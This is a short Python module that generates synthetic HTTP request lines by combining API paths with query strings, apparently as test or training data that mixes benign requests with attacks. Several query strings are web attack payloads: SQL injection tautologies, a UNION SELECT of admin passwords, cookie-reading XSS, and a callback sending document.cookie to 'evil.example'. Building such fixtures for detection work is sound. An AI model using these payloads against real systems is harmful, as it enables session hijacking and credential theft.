"""Masked texts as the cleaning stage writes them: everyday requests and attacks."""

from typing import Final

_PATHS: Final = ("cart", "orders", "users", "products", "search", "login", "invoice", "basket", "reviews")
_QUERIES: Final = (
    "?page=<num>",
    "?q=red shoes size <num>&sort=price",
    "/<id>/items?expand=lines,totals&currency=eur",
    "?id=<num>' or '<num>'='<num>' --",
    "?q=<script>alert(document.cookie)</script>",
    "?id=<num> union select name, password from accounts where role='admin'",
    ' {"email": "<email>", "quantity": <num>, "note": "please ring twice"}',
    "/<id>?callback=javascript:fetch('//evil.example/'+document.cookie)",
)

TEXTS: Final = tuple(
    f"{method} /api/v1/{path}{query}" for path in _PATHS for query in _QUERIES for method in ("GET", "POST")
)
